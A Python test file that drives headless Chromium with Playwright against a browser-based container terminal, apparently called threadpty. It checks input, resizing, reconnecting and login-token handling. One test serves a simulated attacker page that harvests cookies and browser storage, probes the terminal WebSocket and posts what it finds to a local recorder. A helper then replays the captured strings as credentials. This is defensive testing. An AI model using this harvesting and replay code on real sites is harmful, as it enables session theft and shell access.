"""`threadpty web` in a real browser: Debian's Chromium, headless, driven by Playwright's Python
package with ``executable_path`` (no browser is ever downloaded; scripts/browser.sh installs it).

What is checked goes through xterm.js's own buffer (``window.term``), not through pixels.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import os
import re
import threading
import time
from typing import Any, Dict, Iterator, List, Tuple
from urllib.parse import parse_qsl, urlsplit

import pytest

from conftest import IMAGE
from webrig import TOKEN, WebServer, web_server

pytestmark = [pytest.mark.integration, pytest.mark.timeout(180)]

CHROMIUM = os.environ.get("THREADPTY_CHROMIUM", "/usr/bin/chromium")
ARTIFACTS = os.path.join(
    os.path.dirname(os.path.dirname(os.path.dirname(__file__))), "build", "web"
)
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if os.environ.get("THREADPTY_SKIP_BROWSER", "") not in ("", "0"):
        pytest.skip("browser tests skipped: THREADPTY_SKIP_BROWSER is set")
    if not os.path.exists(CHROMIUM):
        pytest.fail(
            f"no Chromium at {CHROMIUM}: run scripts/browser.sh (or `make browser`), "
            "or set THREADPTY_SKIP_BROWSER=1 to skip the browser tests",
            pytrace=False,
        )
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.fail(
            "Playwright's Python package is missing: `make venv` installs it", pytrace=False
        )
    # Playwright gives the browser a fresh profile directory of its own, and removes it.
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            yield b
        finally:
            b.close()


def screen(page: Any) -> str:
    """What xterm.js shows, one line per row, trailing blanks trimmed."""
    return str(
        page.evaluate(
            "() => { const b = window.term.buffer.active; const out = [];"
            " for (let i = 0; i < b.length; i++) out.push(b.getLine(i).translateToString(true));"
            " return out.join('\\n'); }"
        )
    )


def wait_screen(page: Any, predicate: Any, what: str, timeout: float = 20) -> str:
    deadline = time.monotonic() + timeout
    while True:
        text = screen(page)
        if predicate(text):
            return text
        assert time.monotonic() < deadline, f"{what}; the screen:\n{text}"
        page.wait_for_timeout(50)


def type_line(page: Any, line: str) -> None:
    page.keyboard.type(line)
    page.keyboard.press("Enter")


def stty_size(page: Any, tag: str) -> str:
    type_line(page, f"echo {tag}-$(stty size)-")
    text = wait_screen(page, lambda t: f"\n{tag}-" in "\n" + t, f"no answer to {tag}")
    line = [ln for ln in text.splitlines() if ln.startswith(f"{tag}-")][-1]
    return line.split("-")[1]


def test_index_click_type_and_resize(browser: Any, box: str) -> None:
    with web_server() as server:
        page = browser.new_page(viewport={"width": 900, "height": 500})
        page.goto(server.url("/"))
        assert page.url.endswith("/"), "the token stays in the address bar"
        page.click(f"tr:has-text('{box}') a.open")
        page.wait_for_function("() => window.term !== undefined")
        wait_screen(page, lambda t: "# " in t, "no prompt")
        assert box in page.title() and "running" in page.title()
        type_line(page, "echo hello")
        wait_screen(page, lambda t: "\nhello" in t, "no hello from the container")

        rows, cols = page.evaluate("() => [window.term.rows, window.term.cols]")
        assert stty_size(page, "A") == f"{rows} {cols}"
        page.set_viewport_size({"width": 1300, "height": 800})
        page.wait_for_function(f"() => window.term.rows > {rows} && window.term.cols > {cols}")
        rows2, cols2 = page.evaluate("() => [window.term.rows, window.term.cols]")
        size = stty_size(page, "B")
        assert size == f"{rows2} {cols2}" != f"{rows} {cols}"

        type_line(page, "printf '\\033[1;32mthreadpty web\\033[0m: \\342\\202\\254 '; ls /")
        wait_screen(page, lambda t: "threadpty web: €" in t, "no colour line")
        os.makedirs(ARTIFACTS, exist_ok=True)
        shot = os.path.join(ARTIFACTS, "terminal.png")
        page.screenshot(path=shot)
        assert os.path.getsize(shot) > 1000

        type_line(page, "exit 7")
        page.wait_for_function("() => document.title.includes('exited 7')")
        assert page.is_visible("#reconnect")
        page.close()


def test_binary_input_and_reconnect(browser: Any, box: str) -> None:
    with web_server("--exec", box) as server:
        page = browser.new_page(viewport={"width": 1300, "height": 400})
        page.goto(server.url("/"))
        page.wait_for_function("() => window.term !== undefined")
        wait_screen(page, lambda t: "# " in t, "no prompt")
        # The page itself does not name the container; the authenticated /api/title does.
        assert box in page.title() and page.url == f"{server.base}/"
        type_line(page, "exit 0")
        page.wait_for_function("() => document.title.includes('exited 0')")
        page.click("#reconnect")
        page.wait_for_function("() => document.title.includes('running')")
        wait_screen(page, lambda t: "# " in t, "no prompt after reconnecting")
        # A mouse report past column 95 carries a byte above 0x7f that is not UTF-8: xterm.js hands
        # it to onBinary, and it must arrive as that one byte (onData would have sent two).
        type_line(
            page,
            "stty raw -echo; printf '\\033[?1000h'; od -An -tx1 -N6; "
            "printf '\\033[?1000l'; stty sane",
        )
        page.wait_for_function("() => window.term.modes.mouseTrackingMode !== 'none'")
        box_ = page.locator(".xterm-screen").bounding_box()
        page.mouse.click(box_["x"] + box_["width"] - 5, box_["y"] + 10)
        text = wait_screen(
            page,
            lambda t: re.search(r"1b 5b 4d \w\w \w\w \w\w", t),
            "no mouse report came back from od",
        )
        report = re.search(r"1b 5b 4d (\w\w) (\w\w) (\w\w)", text)
        assert report is not None and int(report.group(2), 16) > 0x7F
        page.close()


def test_run_tab_close_removes_its_container(browser: Any, engine: Any) -> None:
    def made() -> list:
        return engine.containers(all=True, filters={"label": "io.threadpty.web"})

    before = {c["Id"] for c in made()}
    server = WebServer("--run", IMAGE, "--network", "none")
    try:
        page = browser.new_page()
        page.goto(server.url("/"))
        page.wait_for_function("() => window.term !== undefined")
        wait_screen(page, lambda t: "# " in t, "no prompt")
        mine = {c["Id"] for c in made()} - before
        assert len(mine) == 1
        page.close()
        deadline = time.monotonic() + 30
        while {c["Id"] for c in made()} & mine:
            assert time.monotonic() < deadline, "the tab's container outlived the tab"
            time.sleep(0.1)
    finally:
        server.stop()


# Another HTTP server on the same host, another port: what a browser sends it, and what its page
# can read, is what any local program listening on a port of its own gets.
OTHER_PAGE = """<!doctype html><html><head><title>other</title></head><body><script>
(async function () {
  var report = { cookie: document.cookie, local: JSON.stringify(localStorage),
                 session: JSON.stringify(sessionStorage), ws: "" };
  report.ws = await new Promise(function (resolve) {
    var ws = new WebSocket("ws://%(target)s/ws/%(box)s");
    ws.onopen = function () { ws.close(); resolve("opened"); };
    ws.onerror = function () { resolve("refused"); };
  });
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
  document.title = "reported";
})();
</script></body></html>"""


class Recorder(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, page: bytes) -> None:
        self.page = page
        self.requests: List[Tuple[str, str, List[Tuple[str, str]], bytes]] = []
        self.reported = threading.Event()
        super().__init__(("127.0.0.1", 0), RecordingHandler)


class RecordingHandler(http.server.BaseHTTPRequestHandler):
    server: Recorder

    def _record(self) -> bytes:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.requests.append((self.command, self.path, list(self.headers.items()), body))
        return body

    def do_GET(self) -> None:  # noqa: N802 - the library's name
        self._record()
        body = self.server.page if self.path == "/" else b""
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:  # noqa: N802
        self._record()
        self.send_response(204)
        self.end_headers()
        if self.path == "/report":
            self.server.reported.set()

    def log_message(self, *args: Any) -> None:
        pass


@contextlib.contextmanager
def other_server(page: bytes) -> Iterator[Recorder]:
    server = Recorder(page)
    thread = threading.Thread(target=server.serve_forever, name="test-other-port", daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def everything_in(requests: List[Tuple[str, str, List[Tuple[str, str]], bytes]]) -> List[str]:
    """Every string a recording server got: paths, query values, header values, cookie values,
    bodies and the values of a JSON body."""
    found: List[str] = []
    for _, path, headers, body in requests:
        found.append(path)
        found.extend(v for _, v in parse_qsl(urlsplit(path).query))
        for name, value in headers:
            found.append(value)
            if name.lower() == "cookie":
                found.extend(c.split("=", 1)[-1].strip() for c in value.split(";"))
        text = body.decode("utf-8", "replace")
        found.append(text)
        with contextlib.suppress(ValueError):
            loaded = json.loads(text)
            if isinstance(loaded, dict):
                found.extend(str(v) for v in loaded.values())
    return [s for s in dict.fromkeys(found) if s]


def replay(server: WebServer, box: str, requests: Any, strings: List[str]) -> List[str]:
    """Try to open a terminal with what another port got, every way the server might take it;
    returns the ways that opened one."""
    from websockets.sync.client import connect

    skip = {"host", "connection", "upgrade", "content-length", "content-type", "origin"}
    attempts: List[Tuple[str, Dict[str, Any]]] = []
    for _, path, headers, _ in requests:
        kept = [(n, v) for n, v in headers if n.lower() not in skip]
        kept = [(n, v) for n, v in kept if not n.lower().startswith("sec-websocket")]
        attempts.append((f"the headers of {path}", {"additional_headers": kept}))
    for s in strings:
        b64 = base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")
        attempts += [
            (f"Bearer {s!r}", {"additional_headers": [("Authorization", f"Bearer {s}")]}),
            (f"cookie {s!r}", {"additional_headers": [("Cookie", f"threadpty_token={s}")]}),
            (f"?token={s!r}", {"query": {"token": s}}),
            (f"subprotocol {s!r}", {"subprotocols": ["threadpty", f"threadpty.token.{b64}"]}),
        ]
    opened = []
    for what, how in attempts:
        url = f"ws://{server.netloc}/ws/{box}"
        query = how.pop("query", None)
        if query is not None:
            from urllib.parse import urlencode

            url += "?" + urlencode(query)
        try:
            ws = connect(url, open_timeout=20, **how)
        except Exception:  # noqa: BLE001 - refused, any way: what matters is that none opens
            continue
        opened.append(what)
        ws.close()
    return opened


def test_another_port_of_the_host_gets_no_credential(browser: Any, box: str) -> None:
    """Browsers send a host's cookies to all its ports, so a login cookie would reach any local
    program with a port of its own, which could then open shells with it."""
    with web_server() as server:
        page_text = OTHER_PAGE % {"target": server.netloc, "box": box}
        with other_server(page_text.encode()) as other:
            context = browser.new_context()
            try:
                page = context.new_page()
                page.goto(server.printed_url)
                page.wait_for_selector(f"tr:has-text('{box}') a.open", timeout=20000)
                page.click(f"tr:has-text('{box}') a.open")
                page.wait_for_function("() => window.term !== undefined")
                wait_screen(page, lambda t: "# " in t, "no prompt")
                type_line(page, "echo lo''gged-in")
                wait_screen(page, lambda t: "\nlogged-in" in t, "no echo")

                elsewhere = context.new_page()
                elsewhere.goto(f"http://127.0.0.1:{other.server_address[1]}/")
                assert other.reported.wait(20), "the other port's page did not report"
            finally:
                context.close()
        got = everything_in(other.requests)
        b64 = base64.urlsafe_b64encode(TOKEN.encode()).decode().rstrip("=")
        leaks = [s for s in got if TOKEN in s or b64 in s]
        opened = replay(server, box, other.requests, got)
        # The report, not whatever the browser asked for after it (its favicon, say).
        report = json.loads(next(r[3] for r in other.requests if r[0:2] == ("POST", "/report")))
    assert not leaks and not opened, f"another port got {leaks} and opened a shell by {opened}"
    assert report["ws"] == "refused"


def test_the_old_query_url_still_logs_in_without_a_cookie(browser: Any, box: str) -> None:
    with web_server() as server:
        context = browser.new_context()
        try:
            page = context.new_page()
            page.goto(f"{server.base}/?token={TOKEN}")
            page.wait_for_selector(f"tr:has-text('{box}') a.open", timeout=20000)
            assert page.url == f"{server.base}/", "the token stays out of the address bar"
            assert context.cookies() == []
        finally:
            context.close()


def test_a_stale_login_cookie_is_refused_and_removed(browser: Any, box: str) -> None:
    with web_server() as server:
        context = browser.new_context()
        try:
            context.add_cookies([{"name": "threadpty_token", "value": TOKEN, "url": server.base}])
            page = context.new_page()
            page.goto(f"{server.base}/")
            page.wait_for_selector("text=a token is needed", timeout=20000)
            assert box not in page.content()
            assert context.cookies() == [], "the browser still holds the old cookie"
        finally:
            context.close()


def test_several_engines_links_work_in_a_new_tab(browser: Any, box: str) -> None:
    sock = os.environ.get("DOCKER_HOST", "unix:///var/run/docker.sock")
    with web_server("--engine", f"a={sock}", "--engine", f"b={sock}") as server:
        context = browser.new_context()
        try:
            page = context.new_page()
            page.goto(server.printed_url)
            page.wait_for_selector("h2:has-text('Engine b')", timeout=20000)
            link = page.locator(f"h2:has-text('Engine b') + table tr:has-text('{box}') a.open")
            href = link.get_attribute("href")
            assert href is not None and href.startswith(f"/t/{box}?engine=b#token=")
            # A new tab starts with an empty sessionStorage: the link carries the token itself.
            tab = context.new_page()
            tab.goto(server.base + href)
            tab.wait_for_function("() => window.term !== undefined")
            wait_screen(tab, lambda t: "# " in t, "no prompt in the new tab")
            assert f"{box} (b)" in tab.title()
            assert tab.url == f"{server.base}/t/{box}?engine=b"
            type_line(tab, "echo ne''w-tab")
            wait_screen(tab, lambda t: "\nnew-tab" in t, "no echo in the new tab")
            # Reloaded, the page still has its token (sessionStorage), though the URL has not.
            tab.reload()
            tab.wait_for_function("() => document.title.includes('running')")
            wait_screen(tab, lambda t: "# " in t, "no prompt after a reload")
            assert context.cookies() == []
        finally:
            context.close()

